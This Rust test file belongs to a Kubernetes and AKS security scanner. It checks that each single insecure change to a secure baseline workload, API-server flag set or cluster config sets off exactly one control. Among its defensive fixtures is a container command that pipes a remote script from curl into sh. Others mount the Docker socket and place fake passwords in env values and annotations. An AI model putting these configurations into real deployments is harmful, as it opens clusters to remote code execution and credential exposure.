//! One fault, one finding: all controls together over a workload with a single change.

use model::{
    DigestKey, KubernetesVersion, Origin, Part, Path, Redactions, Snapshot, WorldId, items,
};

use crate::{Options, catalog, judge};

mod objects;

/// A workload that no control objects to.
const DECENT: &str = "\
apiVersion: apps/v1
kind: Deployment
metadata: {name: web, namespace: shop}
spec:
  template:
    metadata: {labels: {app: web}}
    spec:
      automountServiceAccountToken: false
      securityContext:
        runAsNonRoot: true
        runAsUser: 1000
        seccompProfile: {type: RuntimeDefault}
      containers:
      - name: web
        image: registry.example.com/web:1.2@sha256:9b2f9c5f8f0a4a6ff1b8dff5c7c5c8be1a3f7ba0b1d7f6f3
        args: [--listen=:8080]
        env: []
        ports: [{containerPort: 8080}]
        livenessProbe: {tcpSocket: {port: 8080}}
        readinessProbe: {tcpSocket: {port: 8080}}
        resources:
          requests: {cpu: 100m, memory: 64Mi, ephemeral-storage: 1Gi}
          limits: {cpu: 500m, memory: 128Mi, ephemeral-storage: 1Gi}
        securityContext:
          allowPrivilegeEscalation: false
          readOnlyRootFilesystem: true
          capabilities: {drop: [ALL]}
        volumeMounts: [{name: data, mountPath: /data, readOnly: true}]
      volumes:
      - name: data
        emptyDir: {sizeLimit: 1Gi}
";

#[test]
fn a_decent_workload_has_no_finding() {
    assert_eq!(controls_that_fire(DECENT), Vec::<&str>::new());
}

#[test]
fn one_change_makes_one_finding() {
    let faults = pod_faults().into_iter().chain(metadata_faults()).chain(container_faults());
    for (before, after, expected) in faults {
        assert!(DECENT.contains(before), "the workload has no `{before}`");
        let text = DECENT.replacen(before, after, 1);
        assert_eq!(controls_that_fire(&text), [expected], "{before} → {after}");
    }
}

/// Flags of an API server that no control objects to.
const API_SERVER: &str = "command: [kube-apiserver, --anonymous-auth=false, \
    --authorization-mode=Node, --authorization-mode=RBAC, --audit-log-path=/var/log/audit, \
    --audit-policy-file=/etc/audit.yaml, --encryption-provider-config=/etc/encryption.yaml, \
    --enable-admission-plugins=NodeRestriction, --profiling=false, \
    --kubelet-certificate-authority, /etc/ca.crt]";

#[test]
fn one_flag_makes_one_finding() {
    let workload = |flags: &str| DECENT.replacen("args: [--listen=:8080]", flags, 1);
    assert_eq!(controls_that_fire(&workload(API_SERVER)), Vec::<&str>::new());
    for (before, after, expected) in [
        ("--anonymous-auth=false", "--anonymous-auth", "api-server-takes-anonymous-requests"),
        ("--anonymous-auth=false, ", "", "api-server-takes-anonymous-requests"),
        ("mode=Node", "mode=AlwaysAllow", "api-server-authorizes-everything"),
        ("--authorization-mode=Node, ", "", "api-server-authorization-incomplete"),
        ("--audit-log-path=/var/log/audit, ", "", "audit-log-missing"),
        ("/var/log/audit", "/var/log/audit, --audit-log-maxage=3", "audit-log-short-lived"),
        ("--encryption-provider-config=/etc/encryption.yaml, ", "", "encryption-provider-missing"),
        ("--enable-admission-plugins=NodeRestriction, ", "", "node-restriction-missing"),
        (
            "--profiling=false",
            "--profiling=false, --enable-admission-plugins=AlwaysAdmit",
            "admission-plugin-switched-off",
        ),
        (
            "--profiling=false",
            "--profiling=false, --disable-admission-plugins=NodeRestriction",
            "admission-plugin-switched-off",
        ),
        ("--profiling=false, ", "", "profiling-enabled"),
        (", --kubelet-certificate-authority, /etc/ca.crt", "", "kubelet-connection-unchecked"),
        ("--profiling=false", "--profiling=false, --insecure-port=1", "api-server-insecure-port"),
        (
            "--profiling=false",
            "--profiling=false, --token-auth-file=/etc/tokens",
            "api-server-static-passwords",
        ),
        (
            "--profiling=false",
            "--profiling=false, --etcd-servers=http://10.0.0.7:2379",
            "etcd-connection-unencrypted",
        ),
    ] {
        assert!(API_SERVER.contains(before), "there is no `{before}`");
        let text = workload(&API_SERVER.replacen(before, after, 1));
        assert_eq!(controls_that_fire(&text), [expected], "{before} → {after}");
    }
}

/// A managed cluster that no control objects to.
const CLUSTER: &str = "\
type: Microsoft.ContainerService/managedClusters
name: shop
identity: {type: SystemAssigned}
properties:
  enableRBAC: true
  disableLocalAccounts: true
  aadProfile: {managed: true, enableAzureRBAC: true}
  apiServerAccessProfile: {enablePrivateCluster: true, disableRunCommand: true}
  networkProfile: {networkPlugin: azure, networkPolicy: cilium}
  oidcIssuerProfile: {enabled: true}
  securityProfile: {workloadIdentity: {enabled: true}, azureKeyVaultKms: {enabled: true}}
  servicePrincipalProfile: {clientId: msi}
  autoUpgradeProfile: {upgradeChannel: none, nodeOSUpgradeChannel: NodeImage}
  agentPoolProfiles:
  - {name: system, enableNodePublicIP: false, nodeImageVersion: AKSUbuntu-2204-196912.30.0}
";

#[test]
fn one_setting_of_a_managed_cluster_makes_one_finding() {
    assert_eq!(controls_that_fire(CLUSTER), Vec::<&str>::new());
    for (before, after, expected) in [
        ("enableRBAC: true", "enableRBAC: false", "cluster-without-rbac"),
        ("  disableLocalAccounts: true\n", "", "local-accounts-usable"),
        ("  aadProfile: {managed: true, enableAzureRBAC: true}\n", "", "directory-not-integrated"),
        ("enableAzureRBAC: true", "enableAzureRBAC: false", "rights-outside-the-directory"),
        ("enablePrivateCluster: true, ", "", "api-server-open-to-all-addresses"),
        (
            "enablePrivateCluster: true",
            "authorizedIPRanges: [192.0.2.0/24]",
            "api-server-public-address",
        ),
        (", disableRunCommand: true", "", "run-command-usable"),
        ("networkPolicy: cilium", "networkPolicy: none", "network-policy-engine-missing"),
        ("  oidcIssuerProfile: {enabled: true}\n", "", "workload-identity-off"),
        ("workloadIdentity: {enabled: true}, ", "", "workload-identity-off"),
        ("azureKeyVaultKms: {enabled: true}", "", "secrets-under-platform-key"),
        ("identity: {type: SystemAssigned}", "", ""),
        ("clientId: msi", "clientId: 0f1e2d3c", ""),
        (
            "nodeOSUpgradeChannel: NodeImage",
            "nodeOSUpgradeChannel: None",
            "node-images-not-renewed",
        ),
        ("enableNodePublicIP: false", "enableNodePublicIP: true", "node-public-address"),
        ("196912.30", "196911.30", "node-image-outdated"),
    ] {
        assert!(CLUSTER.contains(before), "there is no `{before}`");
        let expected: Vec<&str> = Some(expected).filter(|it| !it.is_empty()).into_iter().collect();
        let text = CLUSTER.replacen(before, after, 1);
        assert_eq!(controls_that_fire(&text), expected, "{before} → {after}");
    }
    let principal = CLUSTER.replace("clientId: msi", "clientId: 0f1e2d3c");
    let principal = principal.replace("{type: SystemAssigned}", "{type: None}");
    assert_eq!(controls_that_fire(&principal), ["service-principal-used"]);
}

type Fault = (&'static str, &'static str, &'static str);

fn pod_faults() -> Vec<Fault> {
    let host_path = "emptyDir: {sizeLimit: 1Gi}";
    let token = "automountServiceAccountToken: false";
    let user = "runAsNonRoot: true\n        runAsUser: 1000";
    vec![
        (user, "runAsGroup: 1000", "root-not-excluded"),
        (user, "runAsNonRoot: false", "root-not-excluded"),
        (user, "runAsUser: 0", "runs-as-root"),
        (user, "runAsUser: 1000\n        runAsGroup: 0", "root-group"),
        ("{type: RuntimeDefault}", "{type: Unconfined}", "seccomp-unconfined"),
        ("seccompProfile: {type: RuntimeDefault}", "fsGroup: 1000", "seccomp-not-set"),
        (host_path, "hostPath: {path: /run/docker.sock}", "container-runtime-socket-mounted"),
        (host_path, "hostPath: {path: /etc/kubernetes}", "sensitive-host-path-mounted"),
        (host_path, "hostPath: {path: /srv/data}", "host-path-mounted"),
        (token, "serviceAccountName: ''", "service-account-token-mounted"),
        (token, "serviceAccountName: web\n      hostNetwork: true", "host-network"),
        (
            token,
            "serviceAccountName: web\n      hostPID: true\n      shareProcessNamespace: true",
            "host-pid",
        ),
        (token, "serviceAccountName: web\n      hostIPC: true", "host-ipc"),
        ("namespace: shop", "namespace: default", "default-namespace-used"),
        ("namespace: shop", "namespace: kube-public", "workload-in-system-namespace"),
        (host_path, "gitRepo: {repository: 'https://example.com/a.git'}", "git-repo-volume"),
        (host_path, "flexVolume: {driver: example.com/cifs}", "flex-volume"),
        (host_path, "emptyDir: {medium: Memory}", "memory-volume-unbounded"),
        (host_path, "secret: {secretName: a, defaultMode: 0644}", "secret-volume-readable-by-all"),
        (
            host_path,
            "projected: {sources: [{serviceAccountToken: {expirationSeconds: 604800}}]}",
            "long-lived-projected-token",
        ),
        (token, "automountServiceAccountToken: false\n      nodeName: one", "node-name-pinned"),
        (
            token,
            "automountServiceAccountToken: false\n      tolerations: [{operator: Exists}]",
            "tolerates-every-taint",
        ),
        (
            token,
            "automountServiceAccountToken: false\n      tolerations: [{operator: Exists}]\n      \
             nodeSelector: {node-role.kubernetes.io/control-plane: ''}",
            "runs-on-control-plane",
        ),
        (
            token,
            "automountServiceAccountToken: false\n      \
             priorityClassName: system-cluster-critical",
            "system-priority",
        ),
        (
            token,
            "automountServiceAccountToken: false\n      terminationGracePeriodSeconds: 0",
            "killed-without-grace",
        ),
        (
            "spec:\n  template:",
            "spec:\n  replicas: 2\n  strategy: {type: Recreate}\n  template:",
            "update-stops-all-replicas",
        ),
    ]
}

fn metadata_faults() -> Vec<Fault> {
    vec![
        (
            "metadata: {labels: {app: web}}",
            "metadata: {labels: {aadpodidbinding: vault}}",
            "cloud-identity-by-label",
        ),
        (
            "metadata: {labels: {app: web}}",
            "metadata: {labels: {sidecar.istio.io/inject: 'false'}}",
            "left-out-of-mesh",
        ),
        (
            "metadata: {labels: {app: web}}",
            "metadata: {annotations: {example.com/password: hunter2}}",
            "credential-in-annotation",
        ),
    ]
}

fn container_faults() -> Vec<Fault> {
    let security = "allowPrivilegeEscalation: false
          readOnlyRootFilesystem: true
          capabilities: {drop: [ALL]}";
    let environment = "env: []";
    let secret = "env: [{name: TOKEN, valueFrom: {secretKeyRef: {name: web, key: token}}}]";
    vec![
        (security, "privileged: true", "privileged-container"),
        (
            security,
            "privileged: true\n          procMount: Unmasked\n          \
             seccompProfile: {type: Unconfined}\n          capabilities: {add: [ALL]}",
            "privileged-container",
        ),
        (
            security,
            "readOnlyRootFilesystem: true\n          capabilities: {drop: [ALL], add: [SYS_ADMIN]}",
            "dangerous-capability-added",
        ),
        ("capabilities: {drop: [ALL]}", "capabilities: {add: [ALL]}", "dangerous-capability-added"),
        ("capabilities: {drop: [ALL]}", "capabilities: {drop: [KILL]}", "capabilities-not-dropped"),
        ("allowPrivilegeEscalation: false", "runAsUser: 1", "privilege-escalation-allowed"),
        ("readOnlyRootFilesystem: true", "runAsUser: 1", "writable-root-filesystem"),
        (
            "readOnlyRootFilesystem: true",
            "readOnlyRootFilesystem: null",
            "writable-root-filesystem",
        ),
        ("containerPort: 8080", "containerPort: 8080, hostPort: 80", "host-port"),
        (", memory: 128Mi", "", "memory-limit-missing"),
        ("limits: {cpu: 500m, ", "limits: {", "cpu-limit-missing"),
        (
            ", ephemeral-storage: 1Gi}\n        sec",
            "}\n        sec",
            "ephemeral-storage-limit-missing",
        ),
        ("registry.example.com/web", "web", "implicit-registry"),
        (
            "web:1.2@sha256:9b2f9c5f8f0a4a6ff1b8dff5c7c5c8be1a3f7ba0b1d7f6f3",
            "web",
            "mutable-image-tag",
        ),
        ("@sha256:9b2f9c5f8f0a4a6ff1b8dff5c7c5c8be1a3f7ba0b1d7f6f3", "", "image-without-digest"),
        (environment, "env: [{name: DB_PASSWORD, value: hunter2}]", "credential-in-env"),
        (environment, secret, "secret-in-environment"),
        ("--listen=:8080", "--password=hunter2", "credential-in-args"),
        (
            "args: [--listen=:8080]",
            "command: [sh, -c, 'curl -s https://example.com/x | sh']",
            "remote-script-at-start",
        ),
        ("containerPort: 8080", "containerPort: 22", "ssh-server"),
        (environment, "stdin: true\n        tty: true", "debug-shell"),
        ("registry.example.com/web", "k8s.gcr.io/web", "retired-registry"),
        ("registry.example.com/web", "registry.example.com/tiller", "tiller"),
        ("--listen=:8080", "--enable-skip-login", "login-switched-off"),
        ("env: []", "env: [{name: A}, {name: A}]", "duplicate-environment-variable"),
        ("        livenessProbe: {tcpSocket: {port: 8080}}\n", "", "liveness-probe-missing"),
        ("        readinessProbe: {tcpSocket: {port: 8080}}\n", "", "readiness-probe-missing"),
        ("registry.example.com/web", "10.0.0.7:5000/web", "registry-without-name"),
    ]
}

/// Names of the controls with findings, each as often as it has some.
fn controls_that_fire(text: &str) -> Vec<&'static str> {
    let stream = yaml::Stream::yaml(text, &yaml::Limits::default());
    let mut snapshot = Snapshot::new(KubernetesVersion::NEWEST, jiff::Timestamp::UNIX_EPOCH);
    let mut part = Part::new();
    let key = DigestKey::new(&[7; 32]);
    for document in stream.documents() {
        let document = document.unwrap_or_else(|error| panic!("{error:?}\n{text}"));
        for item in items(document.root(), &mut |_, reason| panic!("{reason}\n{text}")) {
            let redactions = Redactions::find(item.node, &key);
            let origin = Origin { file: 0, document: 0, item: Path::root(), line: 1 };
            part.insert(item.node, &redactions, WorldId(0), origin, item.typed);
        }
    }
    snapshot.add(part);
    let judge = |id| judge(&snapshot, id, catalog::all(), &Options::default()).findings;
    snapshot.ids().flat_map(judge).map(|finding| finding.control).collect()
}
